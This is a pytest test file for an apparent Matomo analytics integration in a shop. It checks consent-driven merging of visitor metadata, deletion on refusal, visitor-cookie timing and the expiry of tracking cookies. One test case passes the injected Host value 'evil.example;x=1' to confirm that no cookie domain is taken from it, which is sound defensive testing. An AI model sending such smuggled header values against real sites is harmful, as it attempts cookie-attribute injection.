        (RECEIPT | {"answer": None, "source": "not_answered"}, SILENCE, False),
    ],
)
def test_receipt(receipt, consent, is_new):
    values = merge_visit(EMPTY, receipt, Visit(consent, NOW))
    new = {
        "answer": consent.answer,
        "source": consent.source,
        "date": "2025-11-13 02:13:20",
    }
    assert values == ({"matomo_consent_info": new} if is_new else {})


KNOWN = make_metadata(
    ip_address="203.0.113.9",
    user_agent="Firefox",
    visitor_id=VISITOR,
    attribution_info={"campaign": "spring"},
)
NAMELESS = KNOWN | {"matomo_visitor_id": False}
ASKED = KNOWN | {"matomo_client_hints": '{"fullVersionList": []}'}
NOT_ASKED = KNOWN | {"matomo_client_hints": '{"brands": []}'}


@pytest.mark.parametrize(
    ("stored", "current", "changed"),
    [
        pytest.param(EMPTY, KNOWN, "all", id="the first visit"),
        pytest.param(EMPTY, NAMELESS, "all", id="the first visit has no ID"),
        pytest.param(KNOWN, KNOWN, {}, id="nothing new"),
        pytest.param(
            KNOWN,
            KNOWN | {"matomo_visitor_id": OTHER, "matomo_user_agent": "Phone"},
            {},
            id="another visitor",
        ),
        pytest.param(
            KNOWN,
            KNOWN | {"matomo_visitor_id": OTHER},
            {},
            id="another visitor with the same browser",
        ),
        pytest.param(KNOWN, NAMELESS, {}, id="the ID is lost"),
        pytest.param(
            NAMELESS, KNOWN, {"matomo_visitor_id": VISITOR}, id="the ID arrives"
        ),
        pytest.param(
            NAMELESS,
            KNOWN | {"matomo_user_agent": "Phone"},
            {},
            id="the ID of another browser",
        ),
        pytest.param(
            NAMELESS,
            NAMELESS | {"matomo_accept_language": "fr"},
            {},
            id="news without an ID",
        ),
        pytest.param(
            KNOWN,
            KNOWN | {"matomo_attribution_info": {"campaign": "autumn"}},
            {"matomo_attribution_info": {"campaign": "autumn"}},
            id="a new campaign",
        ),
        pytest.param(
            KNOWN,
            KNOWN | {"matomo_attribution_info": False, "matomo_accept_language": "fr"},
            {"matomo_accept_language": "fr"},
            id="a lost campaign cookie loses no campaign",
        ),
        pytest.param(
            KNOWN,
            KNOWN | {"matomo_user_id": "7"},
            {"matomo_user_id": "7"},
            id="a shopper logs in",
        ),
        pytest.param(
            KNOWN | {"matomo_user_id": "7"},
            KNOWN | {"matomo_accept_language": "fr"},
            {"matomo_accept_language": "fr"},
            id="a shopper logs out, and pays by a link",
        ),
        pytest.param(
            KNOWN | {"matomo_user_id": "7"},
            KNOWN | {"matomo_user_id": "8", "matomo_visitor_id": OTHER},
            {},
            id="another customer on another device",
        ),
        pytest.param(
            KNOWN,
            KNOWN | {"matomo_ip_address": "2001:db8::1"},
            {},
            id="only another address",
        ),
        pytest.param(
            KNOWN,
            KNOWN
            | {"matomo_ip_address": "2001:db8::1", "matomo_user_agent": "Firefox 2"},
            {"matomo_ip_address": "2001:db8::1", "matomo_user_agent": "Firefox 2"},
            id="another address and news",
        ),
        pytest.param(
            NOT_ASKED,
            ASKED,
            {"matomo_client_hints": ASKED["matomo_client_hints"]},
            id="the browser tells more",
        ),
        pytest.param(ASKED, NOT_ASKED, {}, id="the browser was started again"),
    ],
)
def test_whose_cart_it_stays(stored, current, changed):
    values = merge_visit(stored, RECEIPT, Visit(YES, NOW, current))
    if changed == "all":
        changed = {name: value for name, value in current.items() if value}
    assert values == changed


def test_a_refusal_deletes_what_is_stored():
    values = merge_visit(KNOWN, RECEIPT | {"answer": False}, Visit(NO, NOW))
    assert KNOWN | values == EMPTY


def test_silence_deletes_nothing():
    assert merge_visit(KNOWN, RECEIPT, Visit(SILENCE, NOW)) == {}


CONSENTS = st.sampled_from(
    [YES, NO, SILENCE, Consent(True, "elsewhere"), Consent(None, "not_asked")]
)
METADATA = st.fixed_dictionaries(
    {
        "matomo_ip_address": st.sampled_from([False, "203.0.113.9", "2001:db8::1"]),
        "matomo_user_agent": st.sampled_from([False, "Firefox", "Phone"]),
        "matomo_accept_language": st.sampled_from([False, "nl", "fr"]),
        "matomo_client_hints": st.sampled_from([False, "{}"]),
        "matomo_browser_flags": st.sampled_from([False, {"pdf": "1", "time": 1}]),
        "matomo_visitor_id": st.sampled_from([False, VISITOR, OTHER]),
        "matomo_user_id": st.sampled_from([False, "7"]),
        "matomo_attribution_info": st.sampled_from([False, {"campaign": "spring"}]),
    }
)
VISITS = st.builds(
    lambda consent, metadata: Visit(consent, NOW, metadata if consent.answer else {}),
    CONSENTS,
    METADATA,
)


class Order:
    """The metadata that an order stores of its visits."""

    def __init__(self):
        self.metadata, self.receipt = EMPTY, None

    def register(self, visit):
        values = merge_visit(self.metadata, self.receipt, visit)
        written = dict(values)
        self.receipt = values.pop("matomo_consent_info", self.receipt)
        self.metadata = self.metadata | values
        return written


@given(st.lists(VISITS, max_size=6))
def test_any_visits(visits):
    order = Order()
    for visit in visits:
        before = order.metadata
        order.register(visit)
        assert order.metadata.keys() == EMPTY.keys()
        # The same visit again is no news.
        assert order.register(replace(visit, time=NOW + 60)) == {}
        # The latest answer stands, and nothing is stored against it.
        if visit.consent.answer is not None:
            assert order.receipt["answer"] == visit.consent.answer
        if order.receipt["answer"] is False:
            assert order.metadata == EMPTY
        # A visitor is replaced by nobody.
        if before["matomo_visitor_id"] and visit.consent.answer is not False:
            assert order.metadata["matomo_visitor_id"] == before["matomo_visitor_id"]


# === THE VISITOR COOKIE === #


@pytest.mark.parametrize(
    ("visitor_id", "consent", "is_known"),
    [
        (VISITOR, YES, True),
        (VISITOR, SILENCE, True),
        (False, YES, False),
        (False, SILENCE, False),
        (False, NO, True),
        (False, Consent(None, "not_asked"), True),
        (False, Consent(None, "no_visitor_cookie"), False),
        (False, Consent(True, "cookieless"), True),
    ],
)
def test_is_visitor_known(visitor_id, consent, is_known):
    assert is_visitor_known(visitor_id, consent) is is_known


PAGE = make_request({"Sec-Fetch-Dest": "document"})
SCRIPT = make_request({"Sec-Fetch-Dest": "empty"})
RPC = make_request(routing_type="jsonrpc")
LONG_AGO, JUST_NOW = NOW - 2, NOW - 1.99


@pytest.mark.parametrize(
    ("request_", "consent", "since", "is_known", "is_news", "expected"),
    [
        pytest.param(PAGE, YES, None, False, False, (NOW, False), id="first request"),
        pytest.param(PAGE, YES, LONG_AGO, False, True, (NOW, False), id="just agreed"),
        pytest.param(PAGE, YES, None, True, True, (None, False), id="known"),
        pytest.param(
            PAGE, YES, LONG_AGO, True, False, (None, False), id="known by now"
        ),
        pytest.param(
            PAGE, YES, JUST_NOW, False, False, (JUST_NOW, False), id="too early"
        ),
        pytest.param(PAGE, YES, LONG_AGO, False, False, (LONG_AGO, True), id="overdue"),
        pytest.param(
            make_request(),
            YES,
            LONG_AGO,
            False,
            False,
            (LONG_AGO, True),
            id="an old browser",
        ),
        pytest.param(
            SCRIPT, YES, LONG_AGO, False, False, (LONG_AGO, False), id="a script"
        ),
        pytest.param(RPC, YES, LONG_AGO, False, False, (LONG_AGO, False), id="an RPC"),
        pytest.param(
            PAGE, SILENCE, LONG_AGO, False, False, (LONG_AGO, False), id="no answer"
        ),
    ],
)
def test_follow_visitor(request_, consent, since, is_known, is_news, expected):
    assert (
        follow_visitor(
            request_,
            consent,
            since,
            is_known=is_known,
            is_news=is_news,
            may_set_cookie=True,
            patience=timedelta(seconds=2),
        )
        == expected
    )


@pytest.mark.parametrize(
    ("consent", "set_cookie", "may_set_cookie"),
    [
        ("cookie_bar", False, True),
        ("matomo_cookie", True, False),
        ("elsewhere", False, False),
        ("elsewhere", True, True),
        ("cookieless", True, False),
        ("never", True, False),
    ],
)
def test_the_policy_decides_on_the_cookie(consent, set_cookie, may_set_cookie):
    policy = ShopperPolicy(1, consent, set_cookie=set_cookie)
    assert policy.may_set_cookie is may_set_cookie
    _since, is_due = follow_visitor(
        PAGE,
        YES,
        LONG_AGO,
        is_known=False,
        is_news=False,
        may_set_cookie=policy.may_set_cookie,
        patience=timedelta(seconds=2),
    )
    assert is_due is may_set_cookie


@pytest.mark.parametrize("scheme", ["https", "http"])
def test_visitor_cookie(scheme):
    request = make_request(host="shop.example.com:8069", scheme=scheme)
    cookie = prepare_visitor_cookie(request, 7, VISITOR)
    # The cookie that matomo.js would write: its hash is that of "shop.example.com/".
    assert cookie == {
        "key": "_pk_id.7.343e",
        "value": f"{VISITOR}.1763000000.",
        "max_age": 393 * 24 * 60 * 60,
        "secure": scheme == "https",
        "samesite": "Lax",
    }
    # matomo.js's own cookie is read like this one.
    metadata = read_metadata(
        make_request(cookies={cookie["key"]: cookie["value"]}),
        replace(POLICY, idsite=7),
    )
    assert metadata["matomo_visitor_id"] == VISITOR


FOLLOWING = ("_pk_id.7.1fff", "_pk_ref.7.1fff", "_pk_ses.7.62df")


@pytest.mark.parametrize(
    ("host", "domains"),
    [
        ("shop.example.com:8069", ["shop.example.com", "example.com"]),
        ("Example.com", ["example.com"]),
        ("localhost:8069", []),
        ("127.0.0.1:8069", []),
        ("[::1]:8069", []),
        ("evil.example;x=1", []),
        ("", []),
    ],
)
def test_ended_cookies(host, domains):
    """Cookies of matomo.js end wherever it has set them; others stay."""
    others = ("_pk_id.8.1fff", "session_id", "mtm_consent_removed", "_pk_id.7.<x>")
    request = make_request(cookies=dict.fromkeys([*FOLLOWING, *others], "x"), host=host)
    ended = list(shopper.prepare_ended_cookies(request, 7))
    assert {(each["key"], each["domain"]) for each in ended} == {
        (name, domain) for name in FOLLOWING for domain in [None, *domains]
    }
    assert all(each["max_age"] == 0 for each in ended)
